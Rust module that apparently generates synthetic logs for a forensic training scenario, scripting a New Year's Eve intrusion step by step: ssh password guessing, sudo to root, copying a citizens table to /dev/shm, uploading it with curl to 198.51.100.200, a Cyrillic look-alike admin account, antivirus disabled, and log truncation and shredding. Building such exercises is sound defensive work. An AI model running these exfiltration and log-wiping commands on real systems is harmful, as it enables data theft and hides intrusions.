//! The night of 31 December: guessed password → logon → privilege → logs read → export → logs cleared → traces.

use super::cast::{ADMIN, ATTACKER, ATTACKER_TUNNEL, DB, DC, DROP, GUESSED, LOOK_ALIKE, WEB};
use super::sources::antivirus::{self, Said};
use super::sources::asa::{self, Connection};
use super::sources::audit::{self, Exec};
use super::sources::edoc;
use super::sources::linux::{self, Login};
use super::sources::nginx::{self, Request};
use super::sources::postgres::Session;
use super::sources::vpn::{self, Tunnel};
use super::sources::windows::{self, Account, By};
use super::stage::{Chain, LogId, Stage};
use crate::clock::{INCIDENT_FROM, MINUTE, SECOND};
use crate::rng::Stream;

/// What `truth.json` tells of it.
pub(super) const STORY: &str = "From 23:40 on 31 December 2025 (UTC+5) somebody at 203.0.113.77 guesses passwords at the ssh port of srv-web and at 23:57 gets in as \
the administrator b.akhmetov. He takes root by sudo, reads journal and auth.log, goes on to srv-db, reads the logs there, copies the table of citizens out of the \
database, enters the domain through the VPN host in Ljubljana, makes an account that looks like `admin` (its first letter is Cyrillic), switches protection off on \
the domain controller, reads documents, fetches the copy through the web server and sends another to 198.51.100.200, clears the Security log of dc01 (event 1102) \
and empties /var/log/auth.log on srv-db. What was emptied still stands in the central copy. It is over at 02:30 on 1 January: one quarter in UTC, two in the administration's own zone.";

/// When `/var/log/auth.log` on srv-db is emptied: 02:12:40 local. Records since its last rotation are gone there.
pub(super) const EMPTIED_AT: i64 = INCIDENT_FROM + 152 * MINUTE + 40 * SECOND;

/// An instant so many minutes and seconds after 23:40.
fn after(minutes: i64, seconds: i64) -> i64 {
    INCIDENT_FROM + minutes * MINUTE + seconds * SECOND
}

fn login(port: u64) -> Login<'static> {
    Login {
        user: ADMIN.login,
        uid: 1001,
        from: ATTACKER,
        port,
    }
}

/// Everything, in all logs.
pub(super) fn write(stage: &mut Stage) {
    let mut r = Stream::new(stage.seed, "incident");
    guessing(stage, &mut r);
    on_the_web_server(stage, &mut r);
    on_the_database_server(stage, &mut r);
    export(stage, &mut r);
    into_the_domain(stage, &mut r);
    documents_read(stage);
    look_alike_account(stage, &mut r);
    protection_off(stage);
    carried_away(stage, &mut r);
    clearing(stage, &mut r);
}

/// An inbound ssh connection through the firewall.
fn through(stage: &mut Stage, r: &mut Stream, at: i64, port: u64, seconds: i64, bytes: u64) {
    let c = Connection {
        from: ("outside", ATTACKER),
        from_port: port,
        to: ("dmz", WEB),
        to_port: 22,
        bytes,
        seconds,
    };
    asa::connection(stage, r, at, c);
}

fn guessing(stage: &mut Stage, r: &mut Stream) {
    let mut at = after(0, 3);
    let mut port = 40_112;
    while at < after(16, 40) {
        let own = r.permille(550);
        let user = if own { ADMIN.login } else { *r.pick(GUESSED) };
        let known = own || matches!(user, "root" | "postgres" | "www");
        stage.tell(Chain::Incident, "guess", |stage| {
            through(stage, r, at - 200_000, port, 4, 3200 + port % 700);
            let from = Login {
                user,
                uid: 0,
                from: ATTACKER,
                port,
            };
            linux::WEB.ssh_wrong(stage, r, at, from, known);
        });
        port += r.between(2, 40) as u64;
        at += r.between(9, 22) * SECOND;
    }
}

fn on_the_web_server(stage: &mut Stage, r: &mut Stream) {
    let user = ADMIN.login;
    let (web, begin) = (linux::WEB, after(17, 11));
    stage.tell(Chain::Incident, "logon", |stage| {
        through(stage, r, begin - 200_000, 41_877, 9_060, 5_800_441);
        web.ssh_session(stage, r, begin, login(41_877), None, 9_049);
    });
    stage.tell(Chain::Incident, "privilege", |stage| {
        web.auth(stage, after(18, 2), "sudo.refused", "sudo", &format!(
            "{user:>8} : 1 incorrect password attempt ; TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/bash"));
        web.sudo(stage, after(18, 20), user, "root", "/bin/bash", 8_900);
        web.sudo(stage, after(19, 1), user, "root", "/usr/bin/id", 0);
    });
    stage.tell(Chain::Incident, "log-read", |stage| {
        web.sudo(
            stage,
            after(21, 30),
            user,
            "root",
            "/usr/bin/journalctl -u ssh --since today --no-pager",
            55,
        );
        web.sudo(
            stage,
            after(24, 8),
            user,
            "root",
            "/usr/bin/less /var/log/auth.log",
            130,
        );
        web.sudo(
            stage,
            after(27, 41),
            user,
            "root",
            "/usr/bin/grep -a b.akhmetov /var/log/auth.log.1",
            2,
        );
    });
}

fn exec(stage: &mut Stage, r: &mut Stream, at: i64, uid: u32, exe: &str, arguments: &[&str]) {
    audit::exec(
        stage,
        r,
        at,
        Exec {
            auid: 1001,
            uid,
            exe,
            arguments,
            folder: "/home/b.akhmetov",
            key: "admin-exec",
        },
    );
}

fn on_the_database_server(stage: &mut Stage, r: &mut Stream) {
    let (user, db, begin) = (ADMIN.login, linux::DB, after(32, 16));
    let inner = Login {
        user,
        uid: 1001,
        from: WEB,
        port: 50_554,
    };
    stage.tell(Chain::Incident, "logon", |stage| {
        let c = Connection {
            from: ("dmz", WEB),
            from_port: 50_554,
            to: ("inside", DB),
            to_port: 22,
            bytes: 49_113_208,
            seconds: 7_420,
        };
        asa::connection(stage, r, begin - 300_000, c);
        db.ssh_session(stage, r, begin, inner, None, 7_410);
        audit::ssh(stage, r, begin - 40_000, inner, true);
    });
    stage.tell(Chain::Incident, "privilege", |stage| {
        db.sudo(stage, after(33, 50), user, "root", "/bin/bash", 7_000);
        exec(
            stage,
            r,
            after(33, 50) + 20_000,
            0,
            "/usr/bin/bash",
            &["/bin/bash"],
        );
    });
    stage.tell(Chain::Incident, "log-read", |stage| {
        db.sudo(
            stage,
            after(35, 12),
            user,
            "root",
            "/usr/bin/less /var/log/auth.log",
            75,
        );
        exec(
            stage,
            r,
            after(35, 12) + 20_000,
            0,
            "/usr/bin/less",
            &["less", "/var/log/auth.log"],
        );
        exec(
            stage,
            r,
            after(37, 31),
            0,
            "/usr/bin/tail",
            &["tail", "-n", "500", "/var/log/postgresql/postgresql-2025-12.csv"],
        );
        exec(
            stage,
            r,
            after(38, 5),
            0,
            "/usr/bin/journalctl",
            &["journalctl", "-u", "auditd", "--since", "2 days ago"],
        );
    });
}

fn export(stage: &mut Stage, r: &mut Stream) {
    stage.tell(Chain::Incident, "export", |stage| {
        linux::DB.sudo(
            stage,
            after(41, 2),
            ADMIN.login,
            "postgres",
            "/usr/bin/psql registry",
            1_500,
        );
        exec(
            stage,
            r,
            after(41, 2) + 30_000,
            113,
            "/usr/lib/postgresql/16/bin/psql",
            &["psql", "registry"],
        );
        tables_copied(stage, r);
        exec(
            stage,
            r,
            after(68, 0),
            0,
            "/usr/bin/tar",
            &[
                "tar",
                "czf",
                "/dev/shm/.c/c.tar.gz",
                "-C",
                "/dev/shm/.c",
                "c.csv",
                "p.csv",
            ],
        );
        exec(
            stage,
            r,
            after(72, 18),
            0,
            "/usr/bin/scp",
            &[
                "scp",
                "-q",
                "/dev/shm/.c/c.tar.gz",
                "b.akhmetov@10.20.1.10:/var/www/portal/static/.t/",
            ],
        );
    });
}

/// What is done in the database: minute, second, command, table, statement.
fn tables_copied(stage: &mut Stage, r: &mut Stream) {
    let statements = [
        (
            42,
            10,
            "SELECT",
            "pg_catalog.pg_class",
            "SELECT relname, reltuples FROM pg_class WHERE relkind = 'r' ORDER BY 2 DESC",
        ),
        (
            43,
            37,
            "SELECT",
            "public.citizens",
            "SELECT * FROM citizens LIMIT 5",
        ),
        (
            46,
            20,
            "SELECT",
            "public.citizens",
            "SELECT id, iin, family_name, given_name, birth, address, phone FROM citizens",
        ),
        (
            48,
            52,
            "COPY",
            "public.citizens",
            "COPY (SELECT * FROM citizens) TO '/dev/shm/.c/c.csv' WITH (FORMAT csv, HEADER)",
        ),
        (
            55,
            30,
            "COPY",
            "public.payments",
            "COPY payments TO '/dev/shm/.c/p.csv' WITH (FORMAT csv)",
        ),
    ];
    let mut session = Session::open(stage, r, after(41, 4), "postgres", "registry", "[local]", "psql");
    for (minute, second, command, table, sql) in statements {
        session.audit(
            stage,
            after(minute, second),
            ("pg.audit_read", "READ"),
            command,
            table,
            sql,
        );
        if minute == 48 {
            session.duration(stage, after(51, 9), 136_421, sql);
        }
    }
    session.close(stage, after(66, 4));
}

fn into_the_domain(stage: &mut Stage, r: &mut Stream) {
    stage.tell(Chain::Incident, "logon", |stage| {
        vpn::refused(stage, after(78, 2), ADMIN.login, ATTACKER, 52_011);
        let t = Tunnel {
            user: ADMIN.login,
            name: ADMIN.name,
            from: ATTACKER,
            port: 52_014,
            inside: ATTACKER_TUNNEL,
            seconds: 5_050,
        };
        vpn::tunnel(stage, after(78, 30), t);
        let a = Account {
            user: ADMIN.login,
            rid: ADMIN.rid,
            computer: "KALI",
            from: ATTACKER_TUNNEL,
            logon_type: "10",
        };
        for k in 0..3 {
            windows::logon_failed(stage, r, after(80, 4 + 6 * k), a, true);
        }
        windows::logon(stage, r, after(80, 40), a, "0x3ab77c1");
        edoc::record(
            stage,
            after(82, 19),
            2,
            "edoc.logon",
            ADMIN.login,
            ATTACKER_TUNNEL,
            "Жүйеге кіру сәтті",
        );
    });
    stage.tell(Chain::Incident, "privilege", |stage| {
        windows::privileges(
            stage,
            r,
            after(80, 40) + 2_000,
            ADMIN.login,
            ADMIN.rid,
            "0x3ab77c1",
        );
    });
}

fn documents_read(stage: &mut Stage) {
    stage.tell(Chain::Incident, "document-read", |stage| {
        for (k, number) in [114, 131, 207, 209, 260, 311].iter().enumerate() {
            let text = format!(
                "№{number}-қбп құжаты PDF түрінде көшірілді; парақ саны: {}",
                3 + k * 4
            );
            edoc::record(
                stage,
                after(83 + k as i64 * 2, 11),
                1,
                "edoc.export",
                ADMIN.login,
                ATTACKER_TUNNEL,
                &text,
            );
        }
        edoc::record(
            stage,
            after(97, 0),
            0,
            "edoc.logoff",
            ADMIN.login,
            ATTACKER_TUNNEL,
            "Жүйеден шығу",
        );
    });
}

fn look_alike_account(stage: &mut Stage, r: &mut Stream) {
    let by = By {
        user: ADMIN.login,
        rid: ADMIN.rid,
        logon: "0x3ab77c1",
    };
    stage.tell(Chain::Incident, "account-create", |stage| {
        let new = (LOOK_ALIKE, 1402);
        windows::account(stage, r, after(86, 2), "win.4720", new, by);
        windows::account(stage, r, after(86, 3), "win.4722", new, by);
        windows::account(stage, r, after(86, 5), "win.4724", new, by);
        windows::joins(
            stage,
            r,
            after(87, 9),
            "win.4732",
            new,
            ("Administrators", "S-1-5-32-544"),
            by,
        );
        let a = Account {
            user: LOOK_ALIKE,
            rid: 1402,
            computer: "KALI",
            from: ATTACKER_TUNNEL,
            logon_type: "3",
        };
        windows::logon(stage, r, after(90, 33), a, "0x3ac01f8");
        windows::privileges(stage, r, after(90, 33) + 1_000, LOOK_ALIKE, 1402, "0x3ac01f8");
    });
}

fn protection_off(stage: &mut Stage) {
    stage.tell(Chain::Incident, "protection-off", |stage| {
        let said = Said {
            level: "Критическое",
            device: ("DC01", DC),
            user: "AKIMAT\\b.akhmetov",
            event: "Защита приостановлена",
            object: "Постоянная защита файлов",
            action: "Остановка",
            result: "Успешно",
        };
        antivirus::record(stage, after(92, 1), "av.protection_off", said);
        antivirus::record(
            stage,
            after(94, 47),
            "av.detected",
            Said {
                event: "Обнаружена программа удалённого управления",
                object: "C:\\Windows\\Temp\\svc.exe",
                action: "Пропущено",
                result: "Не выполнено",
                user: "AKIMAT\\\u{430}dmin",
                ..said
            },
        );
    });
}

fn carried_away(stage: &mut Stage, r: &mut Stream) {
    stage.tell(Chain::Incident, "transfer", |stage| {
        let agent = "curl/8.5.0";
        for (minute, line, status, bytes) in [
            (103, "HEAD /static/.t/c.tar.gz HTTP/1.1", 200, 0),
            (104, "GET /static/.t/c.tar.gz HTTP/1.1", 206, 16_777_216),
            (106, "GET /static/.t/c.tar.gz HTTP/1.1", 200, 48_211_904),
        ] {
            nginx::request(
                stage,
                after(minute, 20),
                Request {
                    from: ATTACKER,
                    line,
                    status,
                    bytes,
                    referrer: "-",
                    agent,
                },
            );
        }
        let c = Connection {
            from: ("outside", ATTACKER),
            from_port: 43_120,
            to: ("dmz", WEB),
            to_port: 443,
            bytes: 65_904_118,
            seconds: 260,
        };
        asa::connection(stage, r, after(103, 19), c);
        let c = Connection {
            from: ("inside", DB),
            from_port: 38_442,
            to: ("outside", DROP),
            to_port: 443,
            bytes: 48_301_772,
            seconds: 412,
        };
        asa::connection(stage, r, after(112, 5), c);
        exec(
            stage,
            r,
            after(112, 4),
            0,
            "/usr/bin/curl",
            &[
                "curl",
                "-s",
                "-T",
                "/dev/shm/.c/c.tar.gz",
                "https://198.51.100.200/u",
            ],
        );
    });
}

fn clearing(stage: &mut Stage, r: &mut Stream) {
    stage.tell(Chain::Incident, "log-clear", |stage| {
        windows::cleared(stage, r, after(147, 18), LOOK_ALIKE, 1402, "0x3ac01f8");
        // The command itself is the first thing that the emptied file no longer has.
        linux::DB.sudo(
            stage,
            EMPTIED_AT - 40_000,
            ADMIN.login,
            "root",
            "/usr/bin/truncate -s 0 /var/log/auth.log",
            0,
        );
        exec(
            stage,
            r,
            EMPTIED_AT - 10_000,
            0,
            "/usr/bin/truncate",
            &["truncate", "-s", "0", "/var/log/auth.log"],
        );
        exec(
            stage,
            r,
            after(153, 30),
            0,
            "/usr/bin/shred",
            &[
                "shred",
                "-u",
                "/dev/shm/.c/c.tar.gz",
                "/home/b.akhmetov/.bash_history",
            ],
        );
        linux::line(
            stage,
            ("srv-db", LogId::DbSys),
            after(153, 2),
            "systemd.unit",
            "systemd[1]",
            "rsyslog.service: Sent signal SIGHUP to main process 588 (rsyslogd) on client request.",
        );
    });
    stage.tell(Chain::Incident, "logoff", |stage| {
        let a = Account {
            user: ADMIN.login,
            rid: ADMIN.rid,
            computer: "KALI",
            from: ATTACKER_TUNNEL,
            logon_type: "10",
        };
        windows::logoff(stage, r, after(161, 40), a, "0x3ab77c1");
    });
}
